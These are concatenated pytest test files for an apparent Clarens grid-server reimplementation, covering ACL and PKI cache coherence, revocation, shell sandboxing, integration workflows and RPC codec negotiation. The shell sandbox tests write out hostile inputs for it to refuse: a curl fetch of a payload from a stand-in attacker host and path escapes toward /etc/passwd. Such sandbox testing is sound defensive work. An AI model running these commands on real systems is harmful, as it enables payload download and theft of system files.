        assert not server.acl.check_method(ALICE_DN, "job.submit").allowed

    def test_acl_edit_racing_check_is_not_cached(self, cached_server):
        # An ACL edit between a check's DB evaluation and its cache fill must
        # not leave the stale allow in the cache (no stale-grant window).
        acl = cached_server.acl
        real = acl.get_method_acl

        def racing(level):
            result = real(level)
            acl.get_method_acl = real  # fire only once
            acl.set_method_acl("system.echo",
                               ACL(order="allow,deny", dns_denied=[ALICE_DN]))
            return result

        acl.get_method_acl = racing
        acl.check_method(ALICE_DN, "system.echo")  # overlapped with the edit
        assert not acl.check_method(ALICE_DN, "system.echo").allowed

    def test_file_decisions_cached_and_flushed(self, cached_server):
        from repro.acl.model import FileACL

        server = cached_server
        server.acl.set_file_acl("/data", FileACL(read=ACL(dns_allowed=[ALICE_DN]),
                                                 write=ACL()))
        assert server.acl.check_file(ALICE_DN, "/data/x.root", "read").allowed
        server.acl.remove_file_acl("/data")
        server.acl.default_allow_authenticated = False
        assert not server.acl.check_file(ALICE_DN, "/data/x.root", "read").allowed


class TestDiscoveryCache:
    def test_registration_is_visible_immediately(self, cached_server):
        registry = cached_server.services["discovery"].registry
        assert registry.lookup_url(module="nosuch") is None
        from repro.discovery.model import ServiceDescriptor

        registry.register(ServiceDescriptor(
            name="peer", url="http://peer.example/rpc", host_dn="/CN=peer",
            services=["nosuch"], methods=["nosuch.ping"], ttl=600.0))
        assert registry.lookup_url(module="nosuch") == "http://peer.example/rpc"

    def test_repeat_queries_hit_the_cache(self, cached_server):
        registry = cached_server.services["discovery"].registry
        cache = cached_server.caches.get("discovery.lookups")
        registry.find(module="system")
        before = cache.stats.hits
        registry.find(module="system")
        registry.find(module="system")
        assert cache.stats.hits >= before + 2


class TestPKIChainCache:
    def test_second_login_hits_the_chain_cache(self, cached_server, alice_credential):
        cache = cached_server.caches.get("pki.chains")
        for _ in range(2):
            cl = ClarensClient.for_loopback(cached_server.loopback())
            cl.login_with_credential(alice_credential)
            cl.close()
        assert cache.stats.hits >= 1
        assert cache.stats.misses >= 1

    def test_revocation_rejects_despite_warm_cache(self, cached_server,
                                                   alice_credential):
        # Warm the chain cache with a successful login...
        cl = ClarensClient.for_loopback(cached_server.loopback())
        cl.login_with_credential(alice_credential)
        cl.close()
        # ...then revoke Alice's serial through the runtime knob.
        cert = alice_credential.certificate
        revoked = cached_server.authenticator.revoked_serials
        revoked.setdefault(cert.issuer, set()).add(cert.serial)
        cl2 = ClarensClient.for_loopback(cached_server.loopback())
        with pytest.raises(Fault):
            cl2.login_with_credential(alice_credential)
        cl2.close()

    def test_revocation_by_dict_reassignment(self, cached_server, alice_credential):
        # The failure-injection idiom replaces the dict wholesale
        # (authenticator.revoked_serials = ca.crl()); the chain cache must
        # read the current mapping, not the one captured at startup.
        cl = ClarensClient.for_loopback(cached_server.loopback())
        cl.login_with_credential(alice_credential)
        cl.close()
        cert = alice_credential.certificate
        cached_server.authenticator.revoked_serials = {cert.issuer: {cert.serial}}
        cl2 = ClarensClient.for_loopback(cached_server.loopback())
        with pytest.raises(Fault):
            cl2.login_with_credential(alice_credential)
        cl2.close()

    def test_cached_hit_respects_not_before(self, cached_server, alice_credential):
        from repro.pki.certificate import VerificationError

        chain_cache = cached_server.authenticator.chain_cache
        chain = alice_credential.full_chain()
        assert chain_cache.verify_chain(chain)  # warm at the current time
        past = alice_credential.certificate.not_before - 10.0
        with pytest.raises(VerificationError):
            chain_cache.verify_chain(chain, when=past)

    def test_trust_anchor_removal_rejects_despite_warm_cache(self, ca,
                                                             host_credential,
                                                             alice_credential):
        server = build_server(ca, host_credential, cache_enabled=True)
        try:
            cl = ClarensClient.for_loopback(server.loopback())
            cl.login_with_credential(alice_credential)
            cl.close()
            # CA-compromise response: drop the root from the trust store.
            server.trust_store.remove(ca.certificate.subject)
            cl2 = ClarensClient.for_loopback(server.loopback())
            with pytest.raises(Fault):
                cl2.login_with_credential(alice_credential)
            cl2.close()
        finally:
            server.close()

    def test_direct_authenticator_pair_enforces_revocation(self, cached_server,
                                                           alice_credential):
        # An Authenticator built with BOTH revoked_serials and a chain cache
        # (constructed without one) must still enforce revocation.
        from repro.cache.core import TTLLRUCache
        from repro.core.auth import Authenticator, AuthenticationError
        from repro.pki.proxy import ChainVerificationCache, issue_proxy

        cert = alice_credential.certificate
        auth = Authenticator(
            cached_server.sessions, cached_server.trust_store,
            revoked_serials={cert.issuer: {cert.serial}},
            chain_cache=ChainVerificationCache(TTLLRUCache("direct-pki"),
                                               cached_server.trust_store))
        with pytest.raises(AuthenticationError):
            auth.login_with_proxy(issue_proxy(alice_credential))

    def test_delegation_depth_is_part_of_cache_key(self, cached_server,
                                                   alice_credential):
        from repro.pki.proxy import issue_proxy
        from repro.pki.certificate import VerificationError

        chain_cache = cached_server.authenticator.chain_cache
        proxy = issue_proxy(alice_credential)
        delegated = issue_proxy(proxy.credential)
        assert chain_cache.verify_proxy_chain(delegated)  # depth 2, cached
        with pytest.raises(VerificationError):
            chain_cache.verify_proxy_chain(delegated, max_delegation_depth=1)


class TestObservability:
    def test_cache_stats_rpc(self, cached_admin):
        snapshot = cached_admin.call("system.cache_stats")
        assert snapshot["enabled"] is True
        assert "core.sessions" in snapshot["caches"]
        assert "acl.decisions" in snapshot["caches"]
        assert snapshot["totals"]["hits"] >= 0

    def test_cache_stats_requires_admin(self, cached_client):
        with pytest.raises(Fault):
            cached_client.call("system.cache_stats")

    def test_reporter_publishes_to_bus_and_station(self, cached_server):
        cached_server.sessions.create(ALICE_DN)
        bus = MessageBus()
        seen = []
        bus.subscribe("cache.stats", seen.append)
        reporter = CacheStatsReporter(cached_server.caches, source="test")
        published = reporter.publish(bus)
        assert published == len(cached_server.caches.names()) + 1
        topics = {m.topic for m in seen}
        assert "cache.stats.core.sessions" in topics
        assert "cache.stats.totals" in topics

        station = StationServer("st", MessageBus())
        samples = reporter.publish_to_station(station)
        assert samples > 0
        site = station.site_snapshot()
        farm_names = {farm["name"] for farm in site["farms"]}
        assert "caches" in farm_names


class TestCrossServerInvalidation:
    """Two caching servers sharing one monitoring bus stay coherent."""

    def _server_pair(self, ca, host_credential):
        bus = MessageBus()
        a = build_server(ca, host_credential, cache_enabled=True,
                         server_name="server-a", message_bus=bus)
        b = build_server(ca, host_credential, cache_enabled=True,
                         server_name="server-b", message_bus=bus)
        return bus, a, b

    def test_flush_on_one_server_reaches_the_other(self, ca, host_credential):
        bus, a, b = self._server_pair(ca, host_credential)
        try:
            # Warm an ACL decision on server B.
            assert b.acl.check_method(ALICE_DN, "system.echo").allowed
            acl_cache_b = b.caches.get("acl.decisions")
            assert len(acl_cache_b) > 0
            # An ACL edit on server A flushes B's decision cache via the bus.
            a.acl.set_method_acl("system", ACL(dns_allowed=[ADMIN_DN]),
                                 actor_dn=ADMIN_DN)
            assert len(acl_cache_b) == 0
            assert a.invalidation_relay.relayed_out > 0
            assert b.invalidation_relay.applied_in > 0
        finally:
            a.close()
            b.close()

    def test_own_publications_do_not_echo(self, ca, host_credential):
        bus, a, b = self._server_pair(ca, host_credential)
        try:
            applied_before = a.invalidation_relay.applied_in
            out_before = b.invalidation_relay.relayed_out
            a.invalidation.publish("acl")
            # A's own bus message is ignored by A (no loop), applied by B.
            assert a.invalidation_relay.applied_in == applied_before
            assert a.invalidation_relay.ignored_own > 0
            assert b.invalidation_relay.applied_in > 0
            # ...and B's re-application does not bounce back to the bus.
            assert b.invalidation_relay.relayed_out == out_before
        finally:
            a.close()
            b.close()

    def test_relay_disabled_in_paper_mode(self, server):
        assert server.invalidation_relay is None

    def test_relay_detaches_on_close(self, ca, host_credential):
        bus, a, b = self._server_pair(ca, host_credential)
        b.close()
        try:
            applied = b.invalidation_relay.applied_in
            a.invalidation.publish("acl")
            assert b.invalidation_relay.applied_in == applied
        finally:
            a.close()


class TestReporterLoop:
    def test_periodic_reporter_publishes_on_interval(self, ca, host_credential):
        import time as _time

        srv = build_server(ca, host_credential, cache_enabled=True,
                           cache_stats_interval=0.02)
        try:
            seen = []
            srv.message_bus.subscribe("cache.stats", seen.append)
            deadline = _time.monotonic() + 5.0
            while not seen and _time.monotonic() < deadline:
                _time.sleep(0.01)
            assert seen, "reporter loop never published"
            topics = {m.topic for m in seen}
            assert any(t.startswith("cache.stats.") for t in topics)
            assert srv.cache_reporter.publications > 0
        finally:
            srv.close()
        # The loop stops with the server.
        count = len(seen)
        import time as _t
        _t.sleep(0.06)
        assert len(seen) == count

    def test_reporter_loop_off_by_default(self, server):
        assert server._reporter_thread is None
        assert server.config.cache_stats_interval == 0.0


class TestPaperModePreserved:
    def test_caching_is_off_by_default(self, server):
        assert server.config.cache_enabled is False
        assert server.caches.names() == []
        assert server.sessions._cache is None
        assert server.acl._cache is None
        assert server.authenticator.chain_cache is None

    def test_uncached_stats_rpc_reports_disabled(self, admin_client):
        snapshot = admin_client.call("system.cache_stats")
        assert snapshot["enabled"] is False
        assert snapshot["caches"] == {}

    def test_cached_and_uncached_servers_agree(self, cached_server, ca,
                                               host_credential, alice_credential):
        plain = build_server(ca, host_credential)
        try:
            answers = []
            for srv in (plain, cached_server):
                cl = ClarensClient.for_loopback(srv.loopback())
                cl.login_with_credential(alice_credential)
                answers.append((sorted(cl.call("system.list_methods")),
                                cl.call("system.echo", {"k": [1, 2]}),
                                cl.call("system.whoami")["dn"]))
                cl.close()
            assert answers[0] == answers[1]
        finally:
            plain.close()
