"""The shell service: user map, sandboxes, interpreter and RPC methods."""

from __future__ import annotations

import pytest

from repro.protocols.errors import Fault, FaultCode
from repro.shell.interpreter import ShellInterpreter
from repro.shell.sandbox import SandboxManager
from repro.shell.usermap import UserMap, UserMapEntry, UserMapError

JOE_DN = "/DC=org/DC=doegrids/OU=People/CN=Joe User"


class TestUserMap:
    MAP_TEXT = """
# Clarens shell user map
joe : /DC=org/DC=doegrids/OU=People/CN=Joe User ; ;
ops : /O=grid.example/OU=Operations ; cms.ops, cms.admins ;
"""

    def test_parse_paper_example(self):
        usermap = UserMap.parse(self.MAP_TEXT)
        assert len(usermap) == 2
        assert usermap.resolve(JOE_DN) == "joe"

    def test_dn_prefix_mapping(self):
        usermap = UserMap.parse(self.MAP_TEXT)
        assert usermap.resolve("/O=grid.example/OU=Operations/CN=Oscar Ops") == "ops"

    def test_group_based_mapping(self):
        usermap = UserMap.parse(self.MAP_TEXT)
        member_dn = "/O=elsewhere/CN=Grace Groupmember"
        assert usermap.resolve(member_dn) is None
        assert usermap.resolve(member_dn,
                               group_membership=lambda dn, g: g == "cms.ops") == "ops"

    def test_unmapped_dn_returns_none(self):
        assert UserMap.parse(self.MAP_TEXT).resolve("/O=unknown/CN=Nobody") is None

    def test_malformed_lines_rejected(self):
        with pytest.raises(UserMapError):
            UserMap.parse("this line has no colon ; ;")
        with pytest.raises(UserMapError):
            UserMap.parse(" : /O=x/CN=y ; ;")

    def test_save_load_round_trip(self, tmp_path):
        usermap = UserMap.parse(self.MAP_TEXT)
        path = usermap.save(tmp_path / ".clarens_user_map")
        loaded = UserMap.load(path)
        assert loaded.resolve(JOE_DN) == "joe"
        assert loaded.users() == ["joe", "ops"]

    def test_load_missing_file_is_empty(self, tmp_path):
        assert len(UserMap.load(tmp_path / "missing")) == 0

    def test_entry_round_trip(self):
        entry = UserMapEntry(user="u", dns=["/O=x/CN=a"], groups=["g"])
        parsed = UserMap.parse(entry.to_line()).entries[0]
        assert parsed.user == "u" and parsed.dns == ["/O=x/CN=a"] and parsed.groups == ["g"]


class TestSandboxManager:
    def test_get_or_create_reuses_directory(self, tmp_path):
        manager = SandboxManager(tmp_path)
        first = manager.get_or_create("joe")
        (first.path / "artifact.txt").write_text("kept")
        second = manager.get_or_create("joe")
        assert first.path == second.path
        assert (second.path / "artifact.txt").read_text() == "kept"
        assert len(manager) == 1

    def test_sandboxes_adopted_after_restart(self, tmp_path):
        SandboxManager(tmp_path).get_or_create("joe")
        reopened = SandboxManager(tmp_path)
        assert reopened.get("joe") is not None

    def test_destroy(self, tmp_path):
        manager = SandboxManager(tmp_path)
        sandbox = manager.get_or_create("joe")
        assert manager.destroy("joe")
        assert not sandbox.path.exists()
        assert not manager.destroy("joe")

    def test_unsafe_user_names_sanitised(self, tmp_path):
        manager = SandboxManager(tmp_path)
        sandbox = manager.get_or_create("weird user/../name")
        assert sandbox.path.parent == tmp_path
        with pytest.raises(ValueError):
            manager.get_or_create("")


class TestShellInterpreter:
    @pytest.fixture()
    def interpreter(self, tmp_path):
        sandbox = tmp_path / "sandbox"
        sandbox.mkdir()
        return ShellInterpreter(sandbox)

    def test_echo_and_redirect(self, interpreter):
        result = interpreter.run("echo hello grid > greeting.txt")
        assert result.exit_code == 0
        assert interpreter.run("cat greeting.txt").stdout == "hello grid\n"

    def test_append_redirect(self, interpreter):
        interpreter.run("echo one > f.txt")
        interpreter.run("echo two >> f.txt")
        assert interpreter.run("cat f.txt").stdout == "one\ntwo\n"

    def test_pipeline_of_file_commands(self, interpreter):
        interpreter.run("mkdir results && echo 42.7 > results/mass.txt")
        assert interpreter.run("ls results").stdout == "mass.txt\n"
        assert "42.7" in interpreter.run("grep 42 results/mass.txt").stdout
        assert interpreter.run("wc results/mass.txt").stdout.startswith("1 1 5")

    def test_and_chain_stops_on_failure(self, interpreter):
        result = interpreter.run("cat missing.txt && echo should-not-run > out.txt")
        assert result.exit_code != 0
        assert interpreter.run("ls").stdout == ""

    def test_cp_mv_rm_touch_find(self, interpreter):
        interpreter.run("touch a.root && cp a.root b.root && mv b.root c.root")
        assert set(interpreter.run("ls").stdout.split()) == {"a.root", "c.root"}
        assert interpreter.run("find . -name *.root").stdout.count(".root") == 2
        interpreter.run("rm a.root c.root")
        assert interpreter.run("ls").stdout == ""

    def test_head_and_tail(self, interpreter):
        interpreter.run("echo l1 > f && echo l2 >> f && echo l3 >> f")
        assert interpreter.run("head -2 f").stdout == "l1\nl2\n"
        assert interpreter.run("tail -n 1 f").stdout == "l3\n"

    def test_unknown_command_rejected(self, interpreter):
        result = interpreter.run("curl http://evil.example/payload")
        assert result.exit_code == 127
        assert "not found" in result.stderr

    def test_path_escape_refused(self, interpreter):
        result = interpreter.run("cat ../../etc/passwd")
        assert result.exit_code != 0
        assert "escapes the sandbox" in result.stderr
        result = interpreter.run("echo pwned > /../outside.txt")
        assert result.exit_code != 0

    def test_rm_root_refused(self, interpreter):
        assert interpreter.run("rm -r .").exit_code != 0

    def test_pwd_reports_virtual_root(self, interpreter):
        assert interpreter.run("pwd").stdout == "/\n"


class TestShellService:
    @pytest.fixture()
    def mapped_client(self, server, client, admin_client, alice_credential):
        alice_dn = str(alice_credential.certificate.subject)
        admin_client.call("shell.add_mapping", "alice", [alice_dn], [])
        return client

    def test_unmapped_dn_denied(self, client):
        with pytest.raises(Fault) as excinfo:
            client.call("shell.cmd", "echo hi")
        assert excinfo.value.code == FaultCode.ACCESS_DENIED

    def test_cmd_runs_in_sandbox(self, mapped_client):
        result = mapped_client.call("shell.cmd", "echo analysis > notes.txt && cat notes.txt")
        assert result["exit_code"] == 0
        assert result["stdout"] == "analysis\n"
        assert result["user"] == "alice"

    def test_cmd_info_reports_sandbox(self, mapped_client):
        info = mapped_client.call("shell.cmd_info")
        assert info["user"] == "alice"
        assert info["sandbox"].endswith("alice")

    def test_sandbox_persists_across_commands(self, mapped_client):
        mapped_client.call("shell.cmd", "echo persistent > state.txt")
        result = mapped_client.call("shell.cmd", "cat state.txt")
        assert result["stdout"] == "persistent\n"

    def test_allowed_commands_listed(self, mapped_client):
        commands = mapped_client.call("shell.allowed_commands")
        assert "ls" in commands and "grep" in commands

    def test_whoami_local(self, mapped_client):
        assert mapped_client.call("shell.whoami_local") == "alice"

    def test_admin_mapping_management(self, admin_client, client):
        with pytest.raises(Fault):
            client.call("shell.list_mappings")
        mappings = admin_client.call("shell.list_mappings")
        assert any(m["user"] == "clarens" for m in mappings)

    def test_destroy_own_sandbox(self, mapped_client):
        mapped_client.call("shell.cmd", "touch junk.txt")
        assert mapped_client.call("shell.destroy_sandbox", "") is True
        result = mapped_client.call("shell.cmd", "ls")
        assert result["stdout"] == ""

    def test_destroy_other_sandbox_requires_admin(self, mapped_client):
        with pytest.raises(Fault):
            mapped_client.call("shell.destroy_sandbox", "clarens")
