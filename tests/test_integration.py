"""End-to-end integration scenarios spanning many subsystems."""

from __future__ import annotations

import pytest

from repro.acl.model import ACL
from repro.client.client import ClarensClient
from repro.client.discovery_client import DiscoveryAwareClient, ServerDirectory
from repro.client.files import download_file
from repro.discovery.model import ServiceDescriptor
from repro.discovery.publisher import ServicePublisher
from repro.monitoring.bus import MessageBus
from repro.monitoring.monalisa import MonALISARepository
from repro.monitoring.station import StationServer
from repro.protocols.errors import Fault

from tests.conftest import ADMIN_DN, build_server


class TestPhysicsAnalysisScenario:
    """A CMS-style analysis session: VO + ACL + files + shell + jobs."""

    def test_full_workflow(self, server, admin_client, client, alice_credential,
                           bob_credential):
        alice_dn = str(alice_credential.certificate.subject)
        bob_dn = str(bob_credential.certificate.subject)

        # 1. The admin sets up the VO: Alice in cms.higgs, Bob outside.
        admin_client.call("vo.create_group", "cms", [], [], "CMS collaboration")
        admin_client.call("vo.create_group", "cms.higgs", [alice_dn], [], "Higgs group")

        # 2. Stage a dataset and protect it so only cms.higgs may read it.
        admin_client.call("file.mkdir", "/store/higgs")
        admin_client.call("file.write", "/store/higgs/run2005A.dat", b"event " * 1000, False)
        admin_client.call("acl.set_file_acl", "/store/higgs",
                          ACL(groups_allowed=["cms.higgs"]).to_record(),
                          ACL(dns_allowed=[ADMIN_DN]).to_record())

        # 3. Alice reads the data, Bob is denied.
        assert client.call("file.md5", "/store/higgs/run2005A.dat")
        bob = ClarensClient.for_loopback(server.loopback())
        bob.login_with_credential(bob_credential)
        with pytest.raises(Fault):
            bob.call("file.read", "/store/higgs/run2005A.dat", 0, 16)

        # 4. Alice gets a sandbox and submits an analysis job.
        admin_client.call("shell.add_mapping", "alice", [alice_dn], [])
        client.call("shell.cmd", "mkdir work")
        job = client.call("job.submit",
                          "echo selected 42 events > work/selection.txt && cat work/selection.txt",
                          "higgs-selection", {"dataset": "/store/higgs/run2005A.dat"})
        admin_client.call("job.run_pending", 0)
        output = client.call("job.output", job["job_id"])
        assert output["state"] == "completed"
        assert "42 events" in output["stdout"]

        # 5. The job's sandbox output is visible through the shell service.
        listing = client.call("shell.cmd", "ls work")
        assert "selection.txt" in listing["stdout"]

        # 6. Bob never gained access to anything of Alice's.
        with pytest.raises(Fault):
            bob.call("job.output", job["job_id"])


class TestSessionPersistenceAcrossRestart:
    def test_client_survives_server_restart(self, ca, host_credential, alice_credential,
                                             tmp_path):
        data_dir = tmp_path / "server-state"
        first = build_server(ca, host_credential, data_dir=data_dir)
        client = ClarensClient.for_loopback(first.loopback())
        client.login_with_credential(alice_credential)
        session_id = client.session_id
        client.call("file.write", "/persistent.txt", b"survives", False)
        first.close()

        # A new server process over the same data directory: the old session id
        # keeps working without re-authentication (paper, section 2).
        second = build_server(ca, host_credential, data_dir=data_dir)
        try:
            revived = ClarensClient.for_loopback(second.loopback())
            revived.session_id = session_id
            assert revived.call("system.whoami")["dn"] == str(
                alice_credential.certificate.subject)
            assert revived.call("file.read", "/persistent.txt", 0, -1) == b"survives"
        finally:
            second.close()

    def test_vo_and_acl_state_survive_restart(self, ca, host_credential, alice_credential,
                                              admin_credential, tmp_path):
        data_dir = tmp_path / "server-state"
        alice_dn = str(alice_credential.certificate.subject)
        first = build_server(ca, host_credential, data_dir=data_dir)
        admin = ClarensClient.for_loopback(first.loopback())
        admin.login_with_credential(admin_credential)
        admin.call("vo.create_group", "ligo", [alice_dn], [], "")
        admin.call("acl.set_method_acl", "shell", ACL(groups_allowed=["ligo"]).to_record())
        first.close()

        second = build_server(ca, host_credential, data_dir=data_dir)
        try:
            assert second.vo.is_member(alice_dn, "ligo")
            assert second.acl.check_method(alice_dn, "shell.cmd").allowed
        finally:
            second.close()


class TestDiscoveryFederation:
    """Multiple servers publish to a monitoring network; clients bind at call time."""

    def test_location_independent_calls_survive_a_move(self, ca, alice_credential):
        bus = MessageBus()
        repository = MonALISARepository(bus)
        station = StationServer("station-1", bus, site_name="caltech")

        directory = ServerDirectory()
        servers = []
        loopbacks = {}
        for name in ("clarens-file-a", "clarens-file-b"):
            host = ca.issue_host(f"{name}.clarens.test")
            srv = build_server(ca, host, server_name=name)
            servers.append(srv)
            loopback = srv.loopback()
            loopbacks[name] = loopback
            url = f"loopback://{name}/clarens/rpc"
            directory.register_loopback(url, loopback)
            publisher = ServicePublisher(
                station, lambda s=srv, u=url: s.service_descriptor(url=u), reliable=True)
            publisher.publish_once()

        # A dedicated discovery server (system + discovery modules only)
        # aggregates from the monitoring network, like the JClarens JINI client.
        from repro.core.config import ServerConfig
        from repro.core.server import ClarensServer
        from repro.core.system import SystemService
        from repro.discovery.service import DiscoveryService

        discovery_host = ca.issue_host("discovery.clarens.test")
        discovery_server = ClarensServer(
            ServerConfig(server_name="discovery-server", admins=[ADMIN_DN],
                         host_dn=str(discovery_host.certificate.subject)),
            credential=discovery_host, trust_store=ca.trust_store(),
            monitor=repository, register_default_services=False)
        discovery_server.add_service(SystemService(discovery_server))
        discovery_service = discovery_server.add_service(DiscoveryService(discovery_server))
        discovery_service.on_start()
        discovery_service.registry.sync_from_repository()
        servers.append(discovery_server)

        try:
            discovery_client = ClarensClient.for_loopback(discovery_server.loopback())
            discovery_client.login_with_credential(alice_credential)
            assert discovery_client.call("discovery.count") >= 3  # itself + the two file servers

            def login(client: ClarensClient) -> None:
                client.login_with_credential(alice_credential)

            smart = DiscoveryAwareClient(discovery_client, directory, login=login)
            # Location-independent call: we ask for the "file" module, not a host.
            assert {e["name"] for e in smart.call("file.ls", "/")} <= {"srm-transfers"}
            bound_url = smart.resolve_url(module="file")
            assert bound_url.startswith("loopback://clarens-file-")

            # The bound server disappears; a re-registration points at the other
            # one and the next call transparently rebinds.
            gone = "clarens-file-a" if "file-a" in bound_url else "clarens-file-b"
            remaining = "clarens-file-b" if gone == "clarens-file-a" else "clarens-file-a"
            discovery_client.call("discovery.deregister", gone, "")
            smart.unbind("file")
            assert {e["name"] for e in smart.call("file.ls", "/")} <= {"srm-transfers"}
            assert remaining in smart.resolve_url(module="file")
        finally:
            for srv in servers:
                srv.close()

    def test_descriptor_attributes_flow_through_monitoring(self, ca):
        bus = MessageBus()
        repository = MonALISARepository(bus)
        station = StationServer("station-x", bus, site_name="fnal")
        descriptor = ServiceDescriptor(name="tier1-clarens", url="http://tier1/clarens/rpc",
                                       services=["system", "file"],
                                       attributes={"vo": "cms", "tier": "1"})
        station.receive_service_info(descriptor.to_record(), reliable=True)
        found = repository.find_services(vo="cms")
        assert found and found[0]["name"] == "tier1-clarens"


class TestEncryptedEndToEnd:
    def test_mutual_tls_session_and_file_download(self, server, admin_client,
                                                  alice_credential):
        admin_client.call("file.write", "/secure/blob.bin", b"\x01\x02" * 512, False)
        tls = server.loopback(tls=True, require_client_cert=True)
        client = ClarensClient.for_loopback(tls, credential=alice_credential)
        client.login_tls()
        assert client.whoami()["dn"] == str(alice_credential.certificate.subject)
        data = download_file(client, "/secure/blob.bin", verify_checksum=True)
        assert data == b"\x01\x02" * 512

    def test_tls_required_client_cert_blocks_anonymous(self, server):
        tls = server.loopback(tls=True, require_client_cert=True)
        from repro.httpd.tls import TLSError

        with pytest.raises(TLSError):
            tls.connect()  # no client credential supplied
