"""The negotiated wire path: codec upgrade/downgrade, restarts, sendfile.

Covers the interop matrix the binary protocol must survive in a mixed-version
fabric — a negotiating client against an XML-only server, a paper-mode XML
client against a binary-enabled server, garbage on the wire — plus the two
transport-level pieces of the fast path: the keep-alive reconnect that
re-sends negotiated headers after a server restart, and the ``os.sendfile``
data plane staying byte-identical to the chunked fallback on both frontends.
"""

from __future__ import annotations

import http.client
import time

import pytest

from repro.client.client import ClarensClient
from repro.core.pipeline import encode_fault_cached
from repro.core.server import ClarensServer
from repro.httpd.aio import AsyncHTTPServer
from repro.httpd.message import Headers, HTTPRequest, HTTPResponse
from repro.httpd.sendfile import FilePayload
from repro.httpd.server import SocketHTTPServer
from repro.protocols import (BinaryCodec, Fault, RPCRequest, RPCResponse,
                             XMLRPCCodec, all_codecs, default_codec)
from repro.protocols.errors import FaultCode
from repro.protocols.negotiate import ACCEPT_HEADER, PROTOCOL_HEADER

from tests.conftest import build_server

XML_ONLY = "xml-rpc,soap,json-rpc"


def _raw_post(server, body: bytes, content_type: str,
              extra: dict[str, str] | None = None) -> HTTPResponse:
    """POST straight at the RPC endpoint, bypassing the client's codec."""

    headers = Headers({"Content-Type": content_type, **(extra or {})})
    request = HTTPRequest(method="POST", path=server.config.rpc_path(),
                          headers=headers, body=body)
    connection = server.loopback().connect()
    try:
        return connection.request(request)
    finally:
        connection.close()


class TestNegotiationMatrix:
    def test_negotiating_client_upgrades_after_first_response(self, server):
        client = ClarensClient.for_loopback(server.loopback(), negotiate=True)
        assert client.codec.name == "xml-rpc"    # first request is paper-mode
        assert client.call("system.ping") == "pong"
        assert client.codec.name == "binary"     # advert observed, upgraded
        assert client.call("system.echo", {"k": [1, b"\x00"]}) == {"k": [1, b"\x00"]}
        client.close()

    def test_negotiating_client_against_xml_only_server(self, ca, host_credential):
        server = build_server(ca, host_credential, protocol_preference=XML_ONLY)
        try:
            client = ClarensClient.for_loopback(server.loopback(), negotiate=True)
            assert client.call("system.ping") == "pong"
            assert client.codec.name == "xml-rpc"   # advert lacks binary
            assert client.call("system.ping") == "pong"
            client.close()
        finally:
            server.close()

    def test_paper_mode_client_sees_no_advert(self, server):
        """A client that never asks must get byte-for-byte XML-RPC back."""

        codec = XMLRPCCodec()
        body = codec.encode_request(RPCRequest("system.ping"))
        response = _raw_post(server, body, codec.content_type)
        assert response.status == 200
        assert response.headers.get(PROTOCOL_HEADER) is None
        assert response.headers.get("Content-Type") == codec.content_type
        assert codec.decode_response(response.body_bytes()).result == "pong"

    def test_advert_lists_enabled_codecs_when_asked(self, server):
        codec = XMLRPCCodec()
        body = codec.encode_request(RPCRequest("system.ping"))
        response = _raw_post(server, body, codec.content_type,
                             extra={ACCEPT_HEADER: "binary"})
        advertised = (response.headers.get(PROTOCOL_HEADER) or "").split(",")
        assert "binary" in advertised
        assert "xml-rpc" in advertised

    def test_binary_request_to_binary_server(self, server):
        codec = BinaryCodec()
        body = codec.encode_request(RPCRequest("system.ping", call_id=4))
        response = _raw_post(server, body, codec.content_type)
        assert response.status == 200
        assert response.headers.get("Content-Type") == codec.content_type
        decoded = codec.decode_response(response.body_bytes())
        assert decoded.result == "pong"
        assert decoded.call_id == 4

    def test_binary_request_to_xml_only_server_is_clean_fault(self, ca, host_credential):
        """A disabled protocol gets a protocol-correct fault, never a 500."""

        server = build_server(ca, host_credential, protocol_preference=XML_ONLY)
        try:
            body = BinaryCodec().encode_request(RPCRequest("system.ping"))
            response = _raw_post(server, body, BinaryCodec().content_type)
            assert response.status == 200
            decoded = default_codec().decode_response(response.body_bytes())
            assert decoded.is_fault
            assert decoded.fault.code == FaultCode.PARSE_ERROR
            assert "not enabled" in decoded.fault.message
        finally:
            server.close()

    def test_garbage_body_and_content_type_is_clean_fault(self, server):
        response = _raw_post(server, b"\x01\x02 utterly not RPC",
                             "application/x-mystery")
        assert response.status == 200
        decoded = default_codec().decode_response(response.body_bytes())
        assert decoded.is_fault
        assert decoded.fault.code == FaultCode.PARSE_ERROR

    def test_multicall_runs_identically_through_every_codec(self, server):
        """Same batch, every registered codec, same results on the wire."""

        for codec in all_codecs():
            client = ClarensClient.for_loopback(server.loopback(), codec=codec)
            assert client.multicall([("system.echo", ["x"]),
                                     ("system.ping", [])]) == ["x", "pong"]
            client.close()

    def test_fault_payloads_round_trip_byte_exact_every_codec(self):
        fault = Fault(FaultCode.METHOD_NOT_FOUND, "no such method: x.y")
        for codec in all_codecs():
            body = codec.encode_response(RPCResponse.from_fault(fault))
            decoded = codec.decode_response(body)
            assert decoded.is_fault
            re_encoded = codec.encode_response(
                RPCResponse.from_fault(decoded.fault, call_id=decoded.call_id))
            assert re_encoded == body, codec.name


class TestResultFragmentMemo:
    """The binary hot-response memo: cached bytes only for equal results."""

    def _call(self, server, method: str, call_id=None):
        codec = BinaryCodec()
        body = codec.encode_request(RPCRequest(method, (), call_id=call_id))
        response = _raw_post(server, body, codec.content_type)
        assert response.status == 200
        return codec.decode_response(response.body_bytes())

    def test_repeated_equal_results_reuse_the_fragment(self, server):
        catalog = ["alpha", "beta", "gamma"]
        server.registry.register("memo.catalog", lambda: list(catalog),
                                 anonymous=True)
        first = self._call(server, "memo.catalog", call_id=1)
        assert first.result == catalog
        cached = server.pipeline._result_memo["memo.catalog"]
        second = self._call(server, "memo.catalog", call_id=2)
        assert second.result == catalog
        # The memo entry was reused, not replaced, across the two calls.
        assert server.pipeline._result_memo["memo.catalog"] is cached

    def test_changed_result_misses_and_reencodes(self, server):
        cell = {"value": ["old"]}
        server.registry.register("memo.cell", lambda: cell["value"],
                                 anonymous=True)
        assert self._call(server, "memo.cell").result == ["old"]
        cell["value"] = ["new"]
        assert self._call(server, "memo.cell").result == ["new"]

    def test_mutating_the_returned_object_cannot_serve_stale_bytes(self, server):
        live = ["a"]
        server.registry.register("memo.live", lambda: live, anonymous=True)
        assert self._call(server, "memo.live").result == ["a"]
        live.append("b")                    # same object, mutated in place
        assert self._call(server, "memo.live").result == ["a", "b"]

    def test_numeric_results_are_never_memoised(self, server):
        """``1 == True == 1.0`` across types, so equality on numerics does
        not imply identical encoding — they must bypass the memo."""

        sequence = iter([[True], [1], [1.0]])
        server.registry.register("memo.nums", lambda: next(sequence),
                                 anonymous=True)
        assert self._call(server, "memo.nums").result == [True]
        second = self._call(server, "memo.nums").result
